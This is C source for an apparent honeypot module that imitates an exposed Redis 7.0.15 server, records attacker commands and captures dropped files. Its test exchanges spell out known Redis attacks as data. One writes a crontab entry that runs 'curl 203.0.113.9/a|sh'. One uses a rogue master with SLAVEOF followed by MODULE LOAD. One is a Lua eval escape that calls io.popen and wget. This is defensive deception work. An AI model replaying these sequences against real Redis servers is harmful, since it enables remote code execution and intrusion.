/*
 * Redis, open to the world as attackers find it.
 *
 * They look at INFO, point the dump at root's crontab or authorized_keys and save, or name
 * themselves as master and load what they would send as a library.  All of that is answered as
 * Redis does: what SAVE leaves is a file of the peer, masters are named and never asked, and what
 * a loaded library or a script would run goes to the device's shell, which runs nothing.
 */
#include "passive/services/redis/redis.h"

static const char denied[] =
	"-DENIED Redis is running in protected mode because protected mode is enabled and no password "
	"is set for the default user. In this mode connections are only accepted from the loopback "
	"interface. If you want to connect from external computers to Redis you may adopt one of the "
	"following solutions: 1) Just disable protected mode sending the command 'CONFIG SET "
	"protected-mode no' from the loopback interface by connecting to Redis from the same host the "
	"server is running, however MAKE SURE Redis is not publicly accessible from internet if you do "
	"so. Use CONFIG REWRITE to make this change permanent. 2) Alternatively you can just disable "
	"the protected mode by editing the Redis configuration file, and setting the protected mode "
	"option to 'no', and then restarting the server. 3) If you started the server manually just "
	"for testing, restart it with the '--protected-mode no' option. 4) Setup a an authentication "
	"password for the default user. NOTE: You only need to do one of the above things in order for "
	"the server to start accepting connections from the outside.\r\n";

static enum service_next redis_open(struct session *s, void *state)
{
	struct redis *r = state;
	r->device = session_device(s);
	r->protocol = 2;
	r->let_in = !*r->device->password;
	/* Clients are numbered from the start of the server on. */
	r->id = 40 + session_time_us(s) / 1000000 % 8640000 / 211;
	if (!r->device->protected_mode || !r->let_in)
		return SERVICE_CONTINUE;
	session_say(s, "%s", denied);
	return SERVICE_CLOSE;
}

static enum service_next requests_run(struct session *s, struct redis *r, struct reader *in)
{
	struct bytes arguments[REDIS_ARGUMENTS_MAX];
	struct redis_call c = {s, r, arguments, 0};
	while (reader_left(in)) {
		enum redis_read got = redis_read(s, r, in, arguments, &c.count);
		if (got == REDIS_READ_FAULT)
			return SERVICE_CLOSE;
		if (got == REDIS_READ_NOTHING && (r->at || r->expected || !reader_left(in)))
			return SERVICE_CONTINUE;
		if (got == REDIS_READ_NOTHING && *in->at == '*')
			return SERVICE_CONTINUE;
		if (c.count && !redis_run(&c))
			return SERVICE_CLOSE;
	}
	return SERVICE_CONTINUE;
}

static enum service_next redis_input(struct session *s, void *state, struct reader *in)
{
	struct redis *r = state;
	if (!r->planted) {
		r->planted = true;
		redis_begin(s, r);
	}
	enum service_next next = requests_run(s, r, in);
	redis_remember(s, r);
	return next;
}

static void redis_close(struct session *s, void *state)
{
	command_finish(s, ((struct redis *)state)->shell);
}

#define COMMAND(line) "{\"kind\":\"command.sent\",\"command.line\":\"" line "\"}\n"

static const struct exchange redis_exchanges[] = {
	{"inline and in RESP, in one piece",
	 BYTES("PING\r\n*1\r\n$4\r\nPING\r\n*2\r\n$4\r\nECHO\r\n$2\r\nhi\r\nset a \"b c\"\r\nget a\r\nget\r\n"
	       "QUIT\r\nPING\r\n"),
	 BYTES("+PONG\r\n+PONG\r\n$2\r\nhi\r\n+OK\r\n$3\r\nb c\r\n"
	       "-ERR wrong number of arguments for 'get' command\r\n+OK\r\n"),
	 COMMAND("PING") COMMAND("PING") COMMAND("ECHO hi") COMMAND("set a \\\"b c\\\"") COMMAND("get a")
		 COMMAND("get") COMMAND("QUIT")},
	{"a crontab is left by the dump",
	 BYTES("flushall\r\nset x \"\\n* * * * * curl 203.0.113.9/a|sh\\n\"\r\nconfig set dir "
	       "/var/spool/cron\r\nconfig set dbfilename root\r\nsave\r\n"),
	 BYTES("+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n"),
	 COMMAND("flushall") "{\"kind\":\"command.sent\"}\n" COMMAND("config set dir /var/spool/cron")
		 COMMAND("config set dbfilename root") COMMAND("save")
	 "{\"kind\":\"file.captured\",\"file.name\":\"/var/spool/cron/root\",\"file.how\":\"redis-save\"}\n"},
	{"a master is named, a library loaded, and its commands answered",
	 BYTES("config set dbfilename exp.so\r\nSLAVEOF 203.0.113.9 8888\r\nMODULE LOAD ./exp.so\r\n"
	       "slaveof no one\r\nsystem.exec \"echo 1\"\r\nmodule load /tmp/other\r\n"),
	 BYTES("+OK\r\n+OK\r\n+OK\r\n+OK\r\n$2\r\n1\n\r\n"
	       "-ERR Error loading the extension. Please check the server logs.\r\n"),
	 COMMAND("config set dbfilename exp.so") COMMAND("SLAVEOF 203.0.113.9 8888")
	 "{\"kind\":\"file.captured\",\"file.url\":\"redis://203.0.113.9:8888/\",\"file.how\":\"slaveof\"}\n"
	 COMMAND("MODULE LOAD ./exp.so") "{\"kind\":\"file.captured\",\"file.name\":\"./exp.so\"}\n"
	 COMMAND("slaveof no one") COMMAND("system.exec \\\"echo 1\\\"")
	 COMMAND("module load /tmp/other") "{\"kind\":\"file.captured\",\"file.how\":\"module\"}\n"},
	{"a script leaves its sandbox",
	 BYTES("eval 'local f = io.popen(\"echo hi; wget http://203.0.113.9/x\", \"r\"); return f:read(\"*a\")' 0\r\n"
	       "eval \"return 7\" 0\r\neval x y\r\n"),
	 BYTES("$3\r\nhi\n\r\n:7\r\n-ERR value is not an integer or out of range\r\n"), NULL},
	{"a password that is not asked for; unknown commands",
	 BYTES("auth foobared\r\nauth root x\r\nfoo bar \"x y\"\r\nconfig foo\r\nselect 99\r\n"),
	 BYTES("-ERR AUTH <password> called without any password configured for the default user. Are you sure "
	       "your configuration is correct?\r\n-WRONGPASS invalid username-password pair or user is "
	       "disabled.\r\n-ERR unknown command 'foo', with args beginning with: 'bar' 'x y' \r\n"
	       "-ERR unknown subcommand 'foo'. Try CONFIG HELP.\r\n-ERR DB index is out of range\r\n"),
	 "{\"kind\":\"login.tried\",\"login.secret\":\"foobared\",\"login.accepted\":false}\n"
	 "{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.accepted\":false}\n"
	 "{\"kind\":\"command.sent\",\"command.found\":false}\n{\"kind\":\"command.sent\"}\n"
	 "{\"kind\":\"command.sent\"}\n"},
	{"a transaction, numbers, lists and hashes",
	 BYTES("multi\r\nincr n\r\nincrby n 4\r\nexec\r\nrpush l a b\r\nlrange l 0 -1\r\nhset h f v\r\nhgetall h\r\n"
	       "type h\r\nget h\r\nexec\r\nkeys ?\r\ndel n l h\r\ndbsize\r\n"),
	 BYTES("+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n:1\r\n:5\r\n:2\r\n*2\r\n$1\r\na\r\n$1\r\nb\r\n:1\r\n*2\r\n$1\r\nf\r\n"
	       "$1\r\nv\r\n+hash\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n"
	       "-ERR EXEC without MULTI\r\n*3\r\n$1\r\nh\r\n$1\r\nl\r\n$1\r\nn\r\n:3\r\n:0\r\n"),
	 NULL},
	{"RESP 3", BYTES("hello 4\r\nhello 3 setname x\r\nget a\r\nconfig get dbfilename\r\n"),
	 BYTES("-NOPROTO unsupported protocol version\r\n%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$6\r\n"
	       "7.0.15\r\n$5\r\nproto\r\n:3\r\n$2\r\nid\r\n:10686\r\n$4\r\nmode\r\n$10\r\nstandalone\r\n$4\r\nrole\r\n$6\r\n"
	       "master\r\n$7\r\nmodules\r\n*0\r\n_\r\n%1\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n"),
	 NULL},
	{"broken lengths end it", BYTES("*1\r\n$x\r\nPING\r\n"),
	 BYTES("-ERR Protocol error: invalid bulk length\r\n"), ""},
	{"what is no request ends it", BYTES("*2\r\nGET\r\n"),
	 BYTES("-ERR Protocol error: expected '$', got 'G'\r\n"), ""},
	{"quotes that stay open", BYTES("set a \"b\r\n"),
	 BYTES("-ERR Protocol error: unbalanced quotes in request\r\n"), ""},
	{"a browser", BYTES("POST / HTTP/1.1\r\nHost: a\r\n\r\n"), BYTES(""), NULL},
	{0},
};

static const struct option planted_options[] = {
	{.name = "key",
	 .type = OPTION_TEXT,
	 .offset = offsetof(struct redis_planted, key),
	 .required = true,
	 .summary = "name of the key"},
	{.name = "value",
	 .type = OPTION_TEXT,
	 .offset = offsetof(struct redis_planted, value),
	 .fallback = "",
	 .summary = "what it holds"},
	{0},
};

#define DEVICE_TEXT(member, key, otherwise, what)                                                  \
	{                                                                                          \
		.name = key, .type = OPTION_TEXT, .offset = offsetof(struct redis_device, member), \
		.fallback = otherwise, .summary = what                                             \
	}
#define DEVICE_BOOL(member, key, otherwise, what)                                                  \
	{                                                                                          \
		.name = key, .type = OPTION_BOOL, .offset = offsetof(struct redis_device, member), \
		.fallback = otherwise, .summary = what                                             \
	}

static const struct option redis_device[] = {
	DEVICE_TEXT(version, "version", "7.0.15", "what it says it is; errors are those of that version"),
	DEVICE_TEXT(password, "password", "", "requirepass; empty: anyone is let in"),
	DEVICE_TEXT(directory, "directory", "/var/lib/redis", "where it saves to, until told otherwise"),
	DEVICE_TEXT(executable, "executable", "/usr/bin/redis-server", "path of the program"),
	DEVICE_TEXT(config_file, "config-file", "/etc/redis/redis.conf", "path; empty: started without one"),
	DEVICE_TEXT(os, "os", "Linux 5.10.0-28-amd64 x86_64", "system and kernel"),
	DEVICE_BOOL(protected_mode, "protected-mode", "no", "refuses all that do not come from itself"),
	DEVICE_BOOL(protected_configs, "protected-configs", "yes",
		    "7.0: whether dir and dbfilename may be set over the network"),
	DEVICE_BOOL(modules, "modules", "yes", "7.0: whether MODULE LOAD is allowed"),
	{.name = "keys",
	 .type = OPTION_LIST,
	 .offset = offsetof(struct redis_device, keys),
	 .element = OPTION_MAP,
	 .fields = planted_options,
	 .size = sizeof(struct redis_planted),
	 .summary = "strings that it holds from the beginning"},
	{0},
};

static const struct service redis = {
	.name = "redis",
	.summary = "Redis that anyone may use, with what they leave on its disk",
	.reference = "Redis 7.0.15 (RESP2, RESP3), compared answer by answer; older versions by their sources",
	.transports = TRANSPORT_TCP,
	.ports = {6379},
	.state_size = sizeof(struct redis),
	.input_max = 256 * 1024,
	.output_max = 512 * 1024,
	.arena_max = 768 * 1024,
	.idle_ms_max = 300 * 1000,
	.session_ms_max = 1800 * 1000,
	.device = redis_device,
	.device_size = sizeof(struct redis_device),
	.open = redis_open,
	.input = redis_input,
	.close = redis_close,
	.exchanges = redis_exchanges,
};
SERVICE(redis);
